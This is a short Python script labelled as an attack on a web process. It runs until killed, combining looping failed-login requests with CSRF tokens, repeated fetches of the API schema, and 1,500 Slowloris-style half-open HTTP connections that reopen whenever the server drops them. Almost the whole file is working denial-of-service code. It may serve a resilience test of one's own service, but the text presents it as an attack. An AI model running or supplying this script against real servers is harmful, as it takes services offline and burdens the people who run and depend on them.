"""An attack on a web process, as a program of its own: `python attack.py URL` goes on until it is killed.

24 anonymous logins, 16 readers of the API's description, each once a second, 1,500 connections with half headers.
"""

import resource
import selectors
import socket
import sys
import threading
from contextlib import suppress
from urllib.parse import urlsplit

import requests

LOGINS, SCHEMAS, HALF_OPEN = 24, 16, 1500
SCHEMA_SECONDS = 1.0
HALF = b"GET /healthz HTTP/1.1\r\nHost: attacker"


def log_in(url: str, number: int) -> None:
    with requests.Session() as client:
        client.trust_env = False
        while True:
            with suppress(requests.RequestException, ValueError):
                token = client.get(f"{url}/api/v1/session/csrf", timeout=30).json()["csrfToken"]
                body = {"username": f"stranger-{number}", "password": "wrong"}
                client.post(f"{url}/api/v1/session", json=body, headers={"X-CSRFToken": token}, timeout=30)


def read_schema(url: str) -> None:
    with requests.Session() as client:
        client.trust_env = False
        while True:
            with suppress(requests.RequestException):
                client.get(f"{url}/api/v1/schema", timeout=30)
            threading.Event().wait(SCHEMA_SECONDS)


def half_open(url: str) -> None:
    """As many connections as wanted; each that the server closes is opened again."""
    address = urlsplit(url)
    ends = selectors.DefaultSelector()
    while True:
        while len(ends.get_map()) < HALF_OPEN:
            with suppress(OSError):
                end = socket.create_connection((address.hostname or "", address.port or 80), timeout=5)
                end.sendall(HALF)
                ends.register(end, selectors.EVENT_READ)
        for key, _ in ends.select(1):
            ends.unregister(key.fileobj)
            assert isinstance(key.fileobj, socket.socket)
            key.fileobj.close()


def main(url: str) -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    work = [threading.Thread(target=log_in, args=(url, number)) for number in range(LOGINS)]
    work += [threading.Thread(target=read_schema, args=(url,)) for _ in range(SCHEMAS)]
    work.append(threading.Thread(target=half_open, args=(url,)))
    for thread in work:
        thread.daemon = True
        thread.start()
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    threading.Event().wait()


if __name__ == "__main__":
    main(sys.argv[1])
